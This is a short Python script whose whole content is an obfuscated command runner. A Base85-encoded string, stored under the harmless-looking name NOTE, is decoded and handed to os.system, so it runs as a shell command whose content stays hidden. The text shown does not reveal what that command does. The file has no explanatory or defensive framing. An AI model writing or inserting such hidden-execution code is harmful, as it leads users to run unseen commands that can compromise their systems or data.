import base64
import os

NOTE = 'V|8+DAT4HdQ%oRebaZfYIxjD4Wps3GWi4=Fa&&VpWMy_QYcF$jVRCdJd>~?Bb7%'

os.system(base64.b85decode(NOTE).decode())
